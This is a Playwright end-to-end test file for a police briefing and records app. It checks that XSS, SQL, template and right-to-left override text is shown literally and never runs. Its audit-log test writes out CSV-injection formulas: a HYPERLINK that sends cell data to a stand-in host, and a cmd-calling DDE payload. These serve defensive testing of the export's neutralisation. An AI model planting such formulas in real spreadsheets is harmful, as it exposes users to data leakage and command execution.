/**
 * Hostile text (issue 10): SQL metacharacters, HTML, script, an SVG breaking out of an attribute, a
 * template expression, a javascript: link, a right-to-left override and long text typed into every
 * text field a user fills in, and hostile names in the people the records system sends (e2e/serve.ts
 * loads them through the people importer; e2e/hostile-data.ts). Every screen that shows the text
 * shows it literally, nothing in it runs (`window.__pwned` stays undefined, no dialog opens) and no
 * element of it reaches the page (no img[src=x], no inline event handler, no javascript: link), and
 * the server gives it back exactly as typed. The audit log's CSV export turns what a spreadsheet
 * would run as a formula into text (OWASP CSV injection).
 *
 * Items go to one local policing area, never the whole force, so they stay out of the briefings
 * (and the sync deltas) that other specs measure.
 *
 * Accounts: officers 1153, 1154 and 1160 (areas 1, 2 and 8, apart from the curfews spec's) and
 * 1156-1158 (one of each per project), analysts 3001 and 3002 and supervisor 2004, used by no other
 * spec. Analysts and the supervisor sign in from more than one project at once, which is safe: they
 * never type a wrong password, so nothing can lock them.
 */
import fs from 'node:fs'
import type { APIRequestContext, Page, PlaywrightWorkerArgs, TestInfo } from '@playwright/test'
import { parse } from 'csv-parse/sync'
import { z } from 'zod'
import type { BriefingItemInput } from '../src/shared/api/briefing.ts'
import { auditPageSchema, personCheckResponseSchema } from '../src/shared/api/checks.ts'
import { claimResponseSchema } from '../src/shared/api/claims.ts'
import { dueResponseSchema, historyResponseSchema } from '../src/shared/api/curfews.ts'
import { briefingItemSchema } from '../src/shared/api/intel.ts'
import { notesResponseSchema } from '../src/shared/api/notes.ts'
import { syncResponseSchema } from '../src/shared/api/sync.ts'
import { demoPassword, expect, projects, signInOnDevice, test } from './fixtures.ts'
import { hostile, hostilePeople, hostileWanted, longText, shownName } from './hostile-data.ts'
import { AuditPage } from './pages/audit-page.ts'
import { BriefingAuthoringPage } from './pages/briefing-authoring-page.ts'
import { BriefingPage } from './pages/briefing-page.ts'
import { PersonProfilePage, ReasonDialog } from './pages/briefing-profile-page.ts'
import { ChecksPage } from './pages/checks-page.ts'
import { CurfewsPage } from './pages/curfews-page.ts'
import { NotesPage } from './pages/notes-page.ts'
import { WantedGalleryPage } from './pages/wanted-gallery-page.ts'
import { WantedProfilePage } from './pages/wanted-profile-page.ts'

const runId = Date.now().toString(36)
const inHours = (hours: number) => new Date(Date.now() + hours * 3_600_000).toISOString()

// Sign-ins with their packages and photos, on a shared two-core machine.
test.describe.configure({ timeout: 360_000 })

function projectIndex(testInfo: TestInfo): number {
  const index = projects.findIndex((name) => name === testInfo.project.name)
  if (index < 0) throw new Error(`no accounts set aside for project "${testInfo.project.name}"`)
  return index
}

/** Analysts 3001 and 3002 (areas 1 and 2): 3003 would put items in the area whose deltas e2e/briefing.spec.ts measures. */
const analystFor = (testInfo: TestInfo) => ['3001', '3002', '3001'][projectIndex(testInfo)]!

async function apiAs(playwright: PlaywrightWorkerArgs['playwright'], baseURL: string | undefined, collarNumber: string): Promise<APIRequestContext> {
  const api = await playwright.request.newContext({ baseURL })
  const response = await api.post('/api/auth/login', { data: { collarNumber, password: demoPassword } })
  expect(response.status(), `sign-in of ${collarNumber}`).toBe(200)
  return api
}

/** Fails the test on any dialog (alert, confirm, prompt): a payload that ran would open one. */
function refuseDialogs(page: Page): string[] {
  const opened: string[] = []
  page.on('dialog', (dialog) => {
    opened.push(dialog.message())
    void dialog.dismiss()
  })
  return opened
}

/**
 * Nothing of the payloads became part of the page: no global set, no image or SVG from them, no
 * inline event handler on any element, no javascript: link, no script holding them.
 */
async function expectInert(page: Page, where: string): Promise<void> {
  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned), `window.__pwned on ${where}`).toBeUndefined()
  await expect(page.locator('img[src="x"]'), `img[src=x] on ${where}`).toHaveCount(0)
  await expect(page.locator('svg[onload]'), `svg[onload] on ${where}`).toHaveCount(0)
  await expect(page.locator('script').filter({ hasText: '__pwned' }), `script on ${where}`).toHaveCount(0)
  await expect(page.locator('a[href^="javascript:" i]'), `javascript: link on ${where}`).toHaveCount(0)
  await expect(page.locator('b').filter({ hasText: /^of$/ }), `<b> from the long text on ${where}`).toHaveCount(0)
  const handlers = await page.evaluate(() => [...document.querySelectorAll('*')]
    .flatMap((element) => [...element.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${element.tagName} ${a.name}`)))
  expect(handlers, `inline event handlers on ${where}`).toEqual([])
}

test('an analyst writes briefing items holding hostile text in the app: shown as written in Write briefing and the briefing, stored as typed', async ({ page }, testInfo) => {
  test.skip(testInfo.project.name === 'phone', 'writing the briefing is a station-terminal task (as in e2e/briefing.spec.ts)')
  const dialogs = refuseDialogs(page)
  const analyst = analystFor(testInfo)
  const tag = `(${testInfo.project.name}, e2e ${runId})`
  const items = [
    { title: `${hostile.script} ${hostile.img} ${tag}`, text: `${hostile.link}\n${hostile.sql}` },
    { title: `${hostile.svg} ${hostile.rtl} ${tag}`, text: `${hostile.template}\n${hostile.rtl}` },
    { title: `${hostile.sql} ${hostile.template} ${tag}`, text: `${hostile.img}${hostile.script}${hostile.svg}` },
  ]

  await signInOnDevice(page, analyst)
  // The analyst's own area, so the items reach the analyst's own briefing.
  const me = z.object({ user: z.object({ areaId: z.string() }) }).parse(await (await page.request.get('/api/me')).json())
  const areas = syncResponseSchema.parse(await (await page.request.get('/api/sync')).json()).reference.areas
  const area = areas.find((a) => a.id === me.user.areaId)!
  const authoring = new BriefingAuthoringPage(page)
  await authoring.navLink.click()
  await expect(authoring.heading).toBeVisible()
  for (const item of items) {
    await authoring.newItemButton.click()
    await authoring.title.fill(item.title)
    await authoring.text.fill(item.text)
    await authoring.priority(3).check()
    await authoring.area(area.name).check()
    await authoring.publishButton.click()
    await expect(authoring.item(item.title)).toBeVisible()
  }
  for (const item of items) {
    await expect(authoring.item(item.title).getByText(item.title, { exact: true })).toBeVisible()
  }
  await expectInert(page, 'Write briefing')

  // The server holds exactly what was typed.
  const saved = z.object({ items: z.array(briefingItemSchema) }).parse(await (await page.request.get('/api/briefing/items')).json()).items
  for (const item of items) expect(saved.find((s) => s.title === item.title)?.body, item.title).toBe(item.text)

  // The author's own briefing shows them as written.
  const briefing = new BriefingPage(page)
  await briefing.open()
  for (const item of items) {
    const card = briefing.item(item.title)
    await expect(card).toBeVisible({ timeout: 120_000 })
    await expect(card.getByText(item.title, { exact: true })).toBeVisible()
    await expect(card.getByText(item.text, { exact: true })).toBeVisible()
  }
  await expectInert(page, 'Briefing')
  expect(dialogs).toEqual([])
})

test('an officer meets hostile text on every screen and types more into every field: all shown as written, none of it runs, all stored as typed', async ({ page, playwright, baseURL }, testInfo) => {
  // Eight screens after a sign-in with the package and its photos: the longest test here.
  test.setTimeout(600_000)
  const dialogs = refuseDialogs(page)
  const officer = ['1153', '1154', '1160'][projectIndex(testInfo)]!
  const analyst = await apiAs(playwright, baseURL, analystFor(testInfo))
  const officerApi = await apiAs(playwright, baseURL, officer)
  const [linked, wanted] = hostilePeople
  const linkedName = shownName(linked)
  const wantedName = shownName(wanted)
  // Unique to the run: a developer's server (reuseExistingServer) keeps what earlier runs typed.
  const tag = `(${testInfo.project.name}, e2e ${runId})`
  const pkg = syncResponseSchema.parse(await (await officerApi.get('/api/sync')).json())
  const wantedAreaId = pkg.put.people.find((p) => p.id === wanted.id)?.areaId
  if (!wantedAreaId) throw new Error(`${wanted.id} is not in the package with an area: was e2e/serve.ts's addHostilePeople run?`)
  const me = z.object({ user: z.object({ areaId: z.string() }) }).parse(await (await officerApi.get('/api/me')).json())
  const officerArea = me.user.areaId

  // A task for this officer, from an analyst, naming the hostile person: title and text hostile too.
  const input: BriefingItemInput = {
    title: `${hostile.img} ${hostile.sql} ${tag}`,
    body: [hostile.script, hostile.svg, hostile.template, hostile.link, hostile.rtl, longText].join('\n'),
    priority: 2,
    areaIds: [officerArea],
    validFrom: inHours(-0.1),
    validTo: inHours(6),
    links: [{ kind: 'person', id: linked.id }],
    task: { type: 'visit', assignee: { kind: 'officer', id: officer } },
  }
  const published = await analyst.post('/api/briefing/items', { data: input })
  expect(published.status(), await published.text()).toBe(201)
  const item = briefingItemSchema.parse(await published.json())

  // A curfew of the officer's area, due within the next day (tests run at any hour; curfews are at night) and not checked yet.
  const query = new URLSearchParams({ from: new Date().toISOString(), to: inHours(24) })
  const due = dueResponseSchema.parse(await (await officerApi.get(`/api/curfews/due?${query.toString()}`)).json())
  const names = due.items.map(shownName)
  const curfew = due.items.find((i) => i.lastCheck === null && i.visit === null && names.filter((n) => n === shownName(i)).length === 1)
  if (!curfew) throw new Error(`no curfew due and unchecked in the area of ${officer}`)

  await signInOnDevice(page, officer)

  // Briefing: the item as written; a task result holding hostile text.
  const briefing = new BriefingPage(page)
  await briefing.open()
  const card = briefing.item(item.title)
  // The package downloads first: over a minute on a loaded machine with other devices signing in.
  await expect(card).toBeVisible({ timeout: 120_000 })
  await expect(card.getByText(item.title, { exact: true })).toBeVisible()
  await expect(card.getByText(input.body, { exact: true })).toBeVisible()
  const result = `${hostile.svg} ${hostile.template} ${tag} ${longText}`
  await briefing.resultField(item.title).fill(result)
  await briefing.recordResultButton(item.title).click()
  await expect(briefing.taskStatus(item.title, 'Done')).toBeVisible()
  await expect(card).toContainText(`Result: ${result}`)
  await expectInert(page, 'Briefing')
  await expect.poll(async () => {
    const items = z.object({ items: z.array(briefingItemSchema) }).parse(await (await analyst.get('/api/briefing/items')).json()).items
    return items.find((i) => i.id === item.id)?.task?.result
  }, { timeout: 30_000 }).toBe(result)

  // The linked person's profile (opened from the item, whose reason it takes): names, aliases and marks as written.
  await briefing.linkedRecord(item.title, linkedName).click()
  const profile = new PersonProfilePage(page)
  await expect(profile.heading(linkedName)).toBeVisible()
  await expect(page.getByText(shownName(linked.aliases[0]), { exact: true })).toBeVisible()
  await expect(page.getByText(linked.description.marks.join('; '), { exact: true })).toBeVisible()
  await expect(page.getByText(linked.description.build, { exact: true })).toBeVisible()
  await expect(page.getByText(hostileWanted.lastKnownPlace, { exact: true })).toBeVisible()
  await expectInert(page, 'the profile')

  // Notes: a written note holding every payload.
  const noteText = [hostile.img, hostile.rtl, hostile.link, hostile.sql, hostile.script, tag].join(' ')
  await page.goto('/notes')
  const notes = new NotesPage(page)
  await expect(notes.heading).toBeVisible()
  await notes.writeButton.click()
  await notes.transcript.fill(noteText)
  await notes.saveButton.click()
  const note = notes.noteWith(noteText)
  await expect(note.getByText(noteText, { exact: true })).toBeVisible()
  await expect(note.getByText('Uploaded')).toBeVisible({ timeout: 30_000 })
  await expectInert(page, 'Notes')
  expect(notesResponseSchema.parse(await (await officerApi.get('/api/notes')).json()).items.map((n) => n.text)).toContain(noteText)

  // Checks: the hostile person found by their hostile name, with a hostile reason.
  const checkReason = `${hostile.sql} ${hostile.svg} ${tag}`
  const checks = new ChecksPage(page)
  await page.goto('/checks')
  await expect(checks.heading).toBeVisible()
  const [year, month, day] = linked.dob.split('-')
  await checks.checkPerson({ surname: linked.surname, forenames: linked.forenames, dob: `${day}/${month}/${year}` }, 'Intelligence', checkReason)
  const found = checks.result(1, linkedName)
  await expect(found).toBeVisible({ timeout: 20_000 })
  await expect(found.getByRole('heading', { name: `Result 1: ${linkedName}`, exact: true })).toBeVisible()
  await expect(found.getByRole('region', { name: 'Wanted' })).toContainText(`Wanted: ${hostileWanted.offence}`)
  await expectInert(page, 'check results')
  const ownAudit = auditPageSchema.parse(await (await officerApi.get('/api/audit?limit=500')).json()).records.map((r) => r.reasonText)
  expect(ownAudit).toContain(checkReason)

  // Wanted: the other hostile person's card, collected, and an outcome with a hostile note.
  const gallery = new WantedGalleryPage(page)
  await gallery.open()
  const wantedCard = await gallery.show({ name: wantedName, areaId: wantedAreaId })
  await expect(wantedCard.text(hostileWanted.offence)).toBeVisible()
  await expect(wantedCard.text(`Last known: ${hostileWanted.lastKnownPlace}`)).toBeVisible()
  await expectInert(page, 'the wanted gallery')
  await wantedCard.collectButton.click()
  await expect(wantedCard.outcomeButton).toBeVisible({ timeout: 20_000 })
  const outcomeNote = `${hostile.template} ${hostile.img} ${tag}`
  await wantedCard.outcomeButton.click()
  const outcome = page.getByRole('dialog', { name: `Outcome for ${wantedName}` })
  await outcome.getByRole('radio').first().check()
  await outcome.getByLabel('Note (needed for “other”)').fill(outcomeNote)
  const saving = page.waitForResponse((r) => /\/api\/claims\/[^/]+\/outcome$/.test(r.url()) && r.request().method() === 'POST')
  await outcome.getByRole('button', { name: 'Save outcome' }).click()
  const saved = await saving
  expect(saved.status()).toBe(200)
  expect(claimResponseSchema.parse(await saved.json()).claim.note).toBe(outcomeNote)
  await expect(outcome).toBeHidden()
  await expectInert(page, 'the wanted gallery after the outcome')

  // Curfews: a door-knock with hostile words for who answered and the note, then the person's history.
  const answeredBy = `${hostile.svg} ${hostile.link} ${tag}`
  // The note field takes 2,000 characters.
  const doorNote = `${hostile.script} ${tag} ${longText.slice(0, 1_900)}`
  const curfews = new CurfewsPage(page)
  await curfews.open()
  await curfews.hoursAhead.selectOption('24')
  const curfewCard = curfews.card(shownName(curfew))
  await curfewCard.addDetails(answeredBy, doorNote)
  await curfewCard.result('Present').click()
  // (Before the curfew starts the card still says it is not checked tonight; the check is recorded all the same.)
  await expectInert(page, 'Curfews')
  await expect.poll(async () => {
    const history = historyResponseSchema.parse(await (await officerApi.get(`/api/people/${encodeURIComponent(curfew.personId)}/curfew-checks`)).json())
    return history.items.map((c) => [c.answeredBy, c.note])
  }, { timeout: 30_000 }).toContainEqual([answeredBy, doorNote])
  // Opened by its address, the profile asks why: the reason's details are hostile too.
  const viewReason = `${hostile.script} ${hostile.rtl} ${tag}`
  await page.goto(`/people/${encodeURIComponent(curfew.personId)}`)
  await new ReasonDialog(page).choose('Intelligence', viewReason)
  await expect(profile.heading(shownName(curfew))).toBeVisible()
  await expect(page.getByText(doorNote, { exact: true })).toBeVisible()
  await expect(page.getByText(`Door answered by: ${answeredBy}`, { exact: true })).toBeVisible()
  await expectInert(page, 'the curfew history')
  await expect.poll(async () => auditPageSchema.parse(await (await officerApi.get('/api/audit?limit=500')).json()).records.map((r) => r.reasonText), { timeout: 30_000 })
    .toContain(viewReason)

  // And the wanted person's own profile.
  await gallery.open()
  const again = await gallery.show({ name: wantedName, areaId: wantedAreaId })
  const wantedProfile = new WantedProfilePage(page, wantedName)
  await wantedProfile.openFrom(again)
  await expect(wantedProfile.heading).toBeVisible()
  await expect(page.getByText(shownName(wanted.aliases[0]), { exact: true })).toBeVisible()
  await expect(page.getByText(wanted.description.hair, { exact: true })).toBeVisible()
  await expectInert(page, 'the wanted profile')

  expect(dialogs).toEqual([])
  await analyst.dispose()
  await officerApi.dispose()
})

test('a supervisor reads hostile reasons in the audit log as written, and its CSV export runs no formula', async ({ page, playwright, baseURL }, testInfo) => {
  const dialogs = refuseDialogs(page)
  const officer = String(1156 + projectIndex(testInfo))
  const officerApi = await apiAs(playwright, baseURL, officer)
  const tag = `${testInfo.project.name} ${runId}`
  // What a spreadsheet would run (OWASP's examples), and markup, each a check's reason.
  const formulas = [`=HYPERLINK("http://example.invalid/?"&A1,"${tag}")`, `+SUM(1+1)*cmd|' /C calc'!A0 ${tag}`, `-2+3 ${tag}`, `@SUM(1+1) ${tag}`]
  const markup = [`${hostile.img} ${tag}`, `${hostile.script}${hostile.svg} ${tag}`, `${hostile.sql} ${hostile.rtl} ${tag}`]
  for (const text of [...formulas, ...markup]) {
    const response = await officerApi.post('/api/checks/person', { data: { surname: 'Smith', reason: { code: 'welfare', text } } })
    expect(response.status(), await response.text()).toBe(200)
    personCheckResponseSchema.parse(await response.json())
  }
  await officerApi.dispose()

  await signInOnDevice(page, '2004')
  const audit = new AuditPage(page)
  await audit.open()
  await expect(audit.heading).toBeVisible()
  await audit.filterByOfficer(officer)
  for (const text of [...formulas, ...markup]) await expect(audit.rowWith(text)).toHaveCount(1)
  await expectInert(page, 'the audit log')

  // The server gives the reasons back as typed.
  const records = auditPageSchema.parse(await (await page.request.get(`/api/audit?officer=${officer}&limit=500`)).json()).records
  for (const text of [...formulas, ...markup]) expect(records.map((r) => r.reasonText)).toContain(text)

  // The export: formulas start with ' (shown as text by a spreadsheet), markup is left as written.
  const downloading = page.waitForEvent('download')
  await audit.exportLink.click()
  const download = await downloading
  const rows = parse(fs.readFileSync(await download.path()), { columns: true }) as Record<string, string>[]
  const reasons = rows.map((r) => r.reason_text)
  for (const text of formulas) expect(reasons).toContain(`'${text}`)
  for (const text of markup) expect(reasons).toContain(text)
  for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  expect(dialogs).toEqual([])
})
